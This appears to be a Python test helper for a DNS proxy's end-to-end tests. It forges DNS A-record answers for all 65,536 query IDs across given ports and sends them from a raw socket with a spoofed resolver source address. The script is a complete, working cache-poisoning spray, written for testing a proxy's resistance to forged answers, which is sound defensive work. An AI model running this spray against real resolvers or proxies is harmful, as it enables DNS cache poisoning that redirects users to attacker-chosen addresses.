#!/usr/bin/env python3
# Forged answers to the DNS proxy's upstream sockets (test/e2e/dns-proxy-upstream-pool.test.ts):
# for each PORT, one answer per DNS id (all 65,536), from RESOLVER port 53 to TARGET:PORT, each
# saying NAME A ADDRESS, sent from a raw socket that writes its own IPv4 header (so any source
# address), as a root process with CAP_NET_RAW could.
#   spray-answers.py RESOLVER TARGET NAME ADDRESS PORT...  -> {"sent": n, "errors": {"EPERM": n, ...}}
import errno
import json
import socket
import struct
import sys

resolver, target, name, address = sys.argv[1:5]
ports = [int(p) for p in sys.argv[5:]]
qname = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
question = qname + struct.pack("!HH", 1, 1)
record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(address)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
errors = {}
for port in ports:
    for qid in range(65536):
        dns = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + question + record
        udp = struct.pack("!HHHH", 53, port, 8 + len(dns), 0) + dns  # checksum 0: none (IPv4)
        ip = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(resolver), socket.inet_aton(target)
        )
        try:
            raw.sendto(ip + udp, (target, 0))
            sent += 1
        except OSError as error:
            key = errno.errorcode.get(error.errno, str(error.errno))
            errors[key] = errors.get(key, 0) + 1
print(json.dumps({"sent": sent, "errors": errors}))
